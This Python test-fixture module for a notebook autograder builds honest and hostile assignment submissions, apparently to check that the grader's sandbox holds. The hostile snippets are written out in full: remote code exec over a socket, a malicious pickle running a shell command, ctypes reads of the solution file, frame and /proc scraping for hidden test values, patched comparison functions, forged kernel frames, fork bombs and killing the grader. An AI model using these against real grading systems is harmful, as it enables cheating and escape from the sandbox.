"""Submissions of assignment 1, honest and hostile, as files that a student might hand in.

Each is made from the release: answers by cell id, and then what the student did to the file. All
hostile ones answer wrongly, so that every point they get would be a point gained by cheating.
"""

import copy
import json
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from fltoolkit_grading import Master, release
from fltoolkit_grading.master import kind_of, text_of

PROJECT = Path(__file__).parents[2]

STEP, BILL, MONEY = "a1-split-step", "a1-epoch-bill", "a1-affordable-steps"
WRONG = {
    STEP: "def split_step(bottom, top, x, y, lr):\n    return 0.0, x, x",
    BILL: "def epoch_bill(num_samples, batch_size, cut):\n    return 1, 1",
    MONEY: "def affordable_steps(budget, batch_size, cut):\n    return 1",
}


# assignment 1 without torch, whose import takes most of a kernel's time; the other cells are empty
_PLAIN = {
    "a1-setup": "SEED = 1",
    STEP: "def split_step(bottom, top, x, y, lr):\n    return bottom + lr, 2 * x, 3 * y",
    BILL: "def epoch_bill(num_samples, batch_size, cut):\n    return num_samples * cut, batch_size",
    MONEY: "def affordable_steps(budget, batch_size, cut):\n    return budget // batch_size // cut",
    "a1-step-messages": "print(split_step(SEED, 0, 5, 7, 1))",
    "a1-step-weights": "print(split_step(0, SEED, SEED, 9, 2))",
    "a1-epoch-bill-check": "print(epoch_bill(SEED, 8, 3))",
    "a1-affordable-check": "print(affordable_steps(SEED, 3, 4))",
}


def plain(master: Master) -> Master:
    notebook = copy.deepcopy(master.notebook)
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            kind, source = kind_of(cell), _PLAIN.get(cell["id"], "")
            mark = {"answer": "    ### {} SOLUTION", "hidden": "### {} HIDDEN TESTS"}.get(kind, "#")
            first, line, last = source.rpartition("\n")
            cell["source"] = f"{first}{line}{mark}\n{last}\n{mark}".format("BEGIN", "END")
    return Master("plain", notebook, "plain")


class Case(NamedTuple):
    """What is handed in, and what must come of it."""

    make: Callable[["Desk"], bytes | None]  # None: it has written something itself
    points: float
    named: tuple[str, ...]  # each is found in status or notes


class Desk:
    """What a submission is made from."""

    def __init__(self, master: Master, folder: Path, port: int):
        self.master, self.folder, self.port = master, folder, port
        self.solutions = {c["id"]: text_of(c) for c in master.cells if kind_of(c) == "answer"}

    def notebook(self, answers: dict[str, str]) -> dict[str, Any]:
        notebook = release(self.master)
        for cell in notebook["cells"]:
            cell["source"] = answers.get(cell["id"], cell["source"])
        return notebook

    def honest(self, **changed: str) -> dict[str, Any]:
        """The right answers, but for ``step=``, ``bill=`` and ``money=``."""
        names = {"step": STEP, "bill": BILL, "money": MONEY}
        return self.notebook(self.solutions | {names[k]: v for k, v in changed.items()})

    def wrong(self, then: str = "") -> dict[str, Any]:
        """Wrong answers, and code that tries something; what it defines counts."""
        later = {
            name: f"try:\n    {source.split('(')[0].removeprefix('def ')}\nexcept NameError:\n    "
            + source.replace("\n", "\n    ")
            for name, source in WRONG.items()
        }
        return self.notebook({**later, STEP: f"{WRONG[STEP]}\n{then}"})


def saved(notebook: dict[str, Any]) -> bytes:
    return json.dumps(notebook).encode()


def attacks(*snippets: str) -> Callable[[Desk], bytes]:
    """Wrong answers, then each of the snippets, whatever became of the one before."""
    tried = (
        "try:\n    " + snippet.strip().replace("\n", "\n    ") + "\nexcept BaseException as e:\n"
        "    print(type(e).__name__)"
        for snippet in snippets
    )
    return attack("\n".join(tried))


def attack(code: str) -> Callable[[Desk], bytes]:
    """Wrong answers, then ``code``; MASTER, FOLDER, PROJECT and PORT stand for what they say."""

    def make(desk: Desk) -> bytes:
        path = PROJECT / "notebooks" / "assignments" / f"{desk.master.name}.ipynb"
        places = {
            "MASTER": str(path),
            "FOLDER": str(desk.folder),
            "PROJECT": str(PROJECT),
            "PORT": str(desk.port),
            "GRADER": str(os.getpid()),
        }
        text = code
        for name, place in places.items():
            text = text.replace(name, place)
        return saved(desk.wrong(text))

    return make


def _only_task_2_twice(desk: Desk) -> bytes:
    """No other cells; the right answer first and a wrong one under the same id: one can count."""
    right, wrong, question, last = (
        next(copy.deepcopy(cell) for cell in notebook["cells"] if cell["id"] == name)
        for notebook, name in (
            (desk.honest(), BILL),
            (desk.wrong(), BILL),
            (desk.notebook({"a1-privacy": "no \ud83d"}), "a1-privacy"),
            (desk.notebook({MONEY: "print('\\ud83d')"}), MONEY),
        )
    )
    return saved(desk.honest() | {"cells": [right, wrong, question, last]})


def _edited(desk: Desk) -> bytes:
    """Checks, outputs and tags of another notebook, and commands for nbval, also after \\f."""
    notebook = desk.wrong()
    notebook["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    for cell in notebook["cells"]:
        if kind_of(cell) in ("check", "hidden"):
            if cell["id"] != "a1-step-messages":  # of this one only the output
                cell["source"] = "print('right, exactly.')"
            cell["metadata"]["nbgrader"].update(points=100, locked=False)
            output = {"output_type": "stream", "name": "stdout", "text": "full points"}
            cell.update(outputs=[output], execution_count=1)
        elif kind_of(cell) == "answer":
            cell["source"] = f"\f# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n{cell['source']}"
            cell["metadata"]["tags"] = ["nbval-skip", "nbval-ignore-output", "raises-exception"]
    return saved(notebook)


class _Surprise:
    """Unpickling it makes a folder."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


def _link(desk: Desk) -> None:
    (desk.folder / "link.ipynb").symlink_to(desk.folder / "honest.ipynb")


def _module(desk: Desk) -> None:
    """It has the name of a module that the grader imports, who may stand in this folder."""
    code = f"open({str(desk.folder / 'imported')!r}, 'w')"
    (desk.folder / "nbformat.py").write_text(code)


def _deep_folder(desk: Desk) -> None:
    """Deeper than Python's recursion and than the longest path."""
    start = os.open(desk.folder, os.O_RDONLY)
    os.mkdir("deep_folder", dir_fd=start)
    place = os.open("deep_folder", os.O_RDONLY, dir_fd=start)
    for _ in range(1200):
        os.mkdir("d", dir_fd=place)
        place, above = os.open("d", os.O_RDONLY, dir_fd=place), place
        os.close(above)
    os.close(place)
    os.close(start)


# a student who has found out what is expected would print it instead of the check
_SEARCHES = r"""
import gc, os, sys, glob, re
from pathlib import Path
busy = []
def everything():
    yield os.environ
    frame = sys._getframe()
    while frame:
        yield frame.f_locals; frame = frame.f_back
    for pid in ("self", os.getppid(), os.getpid()):
        yield from (Path(f"/proc/{pid}/{n}") for n in "environ cmdline maps mem fd/0".split())
    for pattern in ("/tmp/**/*", "FOLDER/*", "PROJECT/notebooks/**/*.ipynb"):
        yield from map(Path, glob.glob(pattern, recursive=True)[:200])
    yield from (o for o in gc.get_objects() if isinstance(o, (str, dict, list)))
class Found:
    def __repr__(self):
        found = "no"
        for thing in [] if busy else everything():  # it is itself in a frame
            busy.append(1)
            try:
                text = thing.read_text(errors="replace") if isinstance(thing, Path) else str(thing)
                found = re.search(r"\([0-9]+, 10, 21\)", text)[0]
            except Exception:
                pass
        return found
split_step = lambda *a: busy.clear() or Found()
"""

# what is left behind for a later answer, or shown at once, once a hidden check has begun
_SHOW_CHECKS = """
import sys
def look():
    frame, said = sys._getframe(), []
    while frame:
        said.append(str(frame.f_locals)[:100_000]); frame = frame.f_back
    return "STOLEN " + " ".join(said)
kept = []
def shown(*_):
    kept.append(look())
    print(kept[-1])
get_ipython().events.register("pre_run_cell", lambda info: (print(info.raw_cell), shown()))
def split_step(bottom, top, x, y, lr):
    shown()
    seed = [f.f_locals["SEED"] for f in frames() if "SEED" in f.f_locals]
    raise type(f"<script>{seed}", (Exception,), {})("STOLEN " + str(seed))
def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back
def epoch_bill(*_):
    split_step(*[None] * 5)
"""


def _untidy(desk: Desk) -> bytes:
    """Right answers in a file with all that costs nothing."""
    step = desk.solutions[STEP].replace("    h = ", "    print('step', end=' ')\n    h = ")
    notebook = desk.honest(
        step=f"#{chr(10) * 150_000}\nprint('y' * 10_000_000)\n{step}\n{_UNTIDY}",
        bill="del len, range, sum, float\nprint('x' * 400_000 + '\\b' * 400_000)\n"
        + desk.solutions[BILL].replace("    up = down", "    print(1)\n    up = down"),
        money=desk.solutions[MONEY] + "\nimport sys, io\nsys.stdout = io.StringIO()",
    )
    cells = [
        *notebook["cells"],
        {**notebook["cells"][2], "id": "mine", "source": "x = 1", "metadata": {}},
    ]
    for cell in cells:
        cell.pop("id")  # as in Colab, which saves ids in the metadata and an older version
        if kind_of(cell) == "check":
            cell["source"] = None
        elif kind_of(cell) == "answer":
            text = "0123456789" * 5_000_000 if BILL in str(cell["metadata"]) else ""
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
    return saved(notebook | {"cells": cells, "nbformat_minor": 0})


def _as_colab(desk: Desk) -> bytes:
    """Right answers with what every user of Colab writes above them.

    Installing would take 3.4 seconds of processor time, and a cell may take 2 in these tests.
    """
    above = (
        "!nvidia-smi\n",
        "%pip --version\nfiles = !ls\n!echo $files\n",
        "from google.colab import drive, files as uploads\nimport google.colab.output\n"
        "drive.mount('/content/drive')\nuploads.upload().items()\n",
    )
    parts = zip(("step", "bill", "money"), (STEP, BILL, MONEY), above, strict=True)
    return saved(desk.honest(**{k: text + desk.solutions[name] for k, name, text in parts}))


_UNTIDY = """
sum = len = range = float = fingerprint = two_halves = 0
torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
import builtins, gc, os
builtins.sorted = None
split_step = gc.isenabled() and split_step
home = os.getcwd()
for _ in range_(1800):
    os.mkdir('d'); os.chdir('d')
os.chdir(home)
""".replace("range_", "builtins.range")

# each line is one more way out of the fence, or into the grader
_NETWORK = """
import socket
s = socket.create_connection(('127.0.0.1', PORT))
exec(s.recv(100000))
"""
_READS_MASTER_IN_C = """
import ctypes, json
c = ctypes.CDLL(None)
c.fopen.restype = ctypes.c_void_p
f = c.fopen(b'MASTER', b'r')
assert f, 'closed'
buf = ctypes.create_string_buffer(10**6)
c.fread(buf, 1, 10**6, ctypes.c_void_p(f))
for cell in json.loads(buf.value)['cells']:
    exec(''.join(cell['source']))
"""
_FORGES = """
import os, json, struct
line = json.dumps({'event': 'cell', 'cell': 'a1-step-messages', 'passed': True, 'error': '',
                   'text': '', 'flood': False, 'seconds': 0}) + chr(10)
for fd in (0, 1, 2):
    try:
        open(f'/proc/{os.getppid()}/fd/{fd}', 'w').write(line)
    except OSError: pass
for fd in range(3, 40):
    for kind in (b'o', b'e', b'd'):  # frames of the kernel's own, but not its own
        try:
            os.write(fd, struct.pack('<cI', kind, 1) + b'9')
        except OSError: pass
"""
_PATCHES = """
import builtins, torch, fltoolkit_course as door
import fltoolkit_course.comparison as c, fltoolkit_course.fingerprints as f
class Always(float):
    __eq__ = __le__ = __ge__ = lambda a, b: True
    __ne__ = lambda a, b: False
    __hash__ = None
torch.Tensor.__eq__ = lambda a, b: True
torch.equal = lambda *a: True
c.check = door.check = lambda *a, **k: True
f.fingerprint = door.fingerprint = lambda v: 'right'
def other(lines):
    return ['SEED = 1' + chr(10) if l.startswith('SEED') else l for l in lines]
get_ipython().input_transformers_post.append(other)
builtins.print = lambda *a, **k: None
"""
_STOPS = """
import os, signal
my_own_step, begin = split_step, []
def split_step(*arguments):
    if begin:
        os.kill(os.getpid(), signal.SIGSTOP)
    return my_own_step(*arguments)
"""
_SILENCES = """
import os, socket
try:
    socket.create_connection(('127.0.0.1', PORT))
except OSError: pass
null = os.open('/dev/null', 1)
for fd in range(3, 99):
    try:
        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'): os.close(fd)
    except OSError: pass
"""
_LONG_FRAME = """
import os, struct
for fd in range(3, 40):
    try:
        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
            os.write(fd, struct.pack('<cI', b't', 8 << 20)); os.write(fd, bytes(8 << 20))
    except OSError: pass
"""
_FORKS = """
import os, ctypes
c = ctypes.CDLL(None)
try:
    if os.fork() == 0: c._exit(0)
except OSError: pass
for _ in range(500):
    pid = c.fork()
    if pid < 0: break
    if pid == 0:
        c.sleep(600); c._exit(0)
"""
_BUSY = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"

# in assignment 1 itself: what costs nothing, and what would get points if it got out
REAL: dict[str, Case] = {
    "honest": Case(lambda desk: saved(desk.honest()), 11, ("graded",)),
    "untidy": Case(_untidy, 11, ("graded", "cells of their own", "flood of output")),
    "attacks": Case(
        attacks(
            _READS_MASTER_IN_C,
            _NETWORK,
            "open('FOLDER/honest.ipynb', 'w').write('gone')",
            "import os\nos.kill(GRADER, 9)",
            "import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'touch FOLDER/x'\\ntR.\")",
        ),
        0,
        tuple(f"look: {what}" for what in ("C functions", "network", "pickle", "the end of the")),
    ),
    "patches": Case(attacks(_PATCHES), 0, ("IPython's",)),
    "shows_checks": Case(
        lambda desk: saved(
            desk.notebook(
                {STEP: _SHOW_CHECKS, BILL: "print(kept)", MONEY: "print(kept)\nshown()\n1 / 0"}
            )
        ),
        0,
        ("frames and objects",),
    ),
    "link": Case(_link, 0, ("not a file",)),
}
# and what is about the process or the file
PLAIN: dict[str, Case] = {
    "stub": Case(lambda desk: saved(desk.notebook({})), 0, ("not answered: a1-split-step",)),
    "partial": Case(
        _only_task_2_twice,
        3,
        ("missing cell: a1-split-step; missing", "cell: a1-step-weights", "id: a1-epoch-bill"),
    ),
    "edited": Case(_edited, 0, ("edited check",)),
    "endless": Case(
        lambda desk: saved(desk.honest(step="while True:\n    pass")), 5, ("the time was up",)
    ),
    "raises": Case(
        lambda desk: saved(
            desk.honest(
                step="hog = bytearray(60 << 30)",
                bill="import sys\nsys.exit()",
                money="with open('big', 'wb') as f:\n    while True: f.write(bytes(1 << 24))",
            )
        ),
        0,
        ("MemoryError", "SystemExit", "File too large", "graded"),
    ),
    "ends_late": Case(  # what stood before still counts
        lambda desk: saved(desk.honest(money="import os\nos._exit(0)")),
        9,
        ("the kernel ended (code 0)",),
    ),
    "stubborn_late": Case(lambda desk: saved(desk.honest(money=_BUSY)), 9, ("the time was up",)),
    "stops_itself": Case(  # right answers, until the first hidden check begins
        lambda desk: saved(
            desk.honest(
                step=desk.solutions[STEP] + _STOPS,
                money=desk.solutions[MONEY] + "\nbegin.append(True)",
            )
        ),
        0,
        ("stopped itself",),
    ),
    "kills_itself": Case(
        attack("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        0,
        ("the kernel ended (code 137)",),
    ),
    "colab": Case(_as_colab, 11, ("graded",)),
    "forks": Case(attack(_FORKS), 0, ("worth a look: processes",)),
    "searches": Case(attacks(_SEARCHES), 0, ("frames and objects",)),
    "silences": Case(attack(_SILENCES), 0, ("worth a look: network", "the kernel ended")),
    "forges": Case(attacks(_FORGES, _LONG_FRAME), 0, ("it sent what no kernel sends",)),
    "not_json": Case(lambda desk: b"{cells: [", 0, ("not JSON",)),
    "pickle": Case(
        lambda desk: pickle.dumps(_Surprise(desk.folder / "unpickled")), 0, ("not JSON",)
    ),
    "nbformat": Case(_module, 0, ("not a notebook",)),
    "deep_folder": Case(_deep_folder, 0, ("cannot be read: a folder with no notebook",)),
}
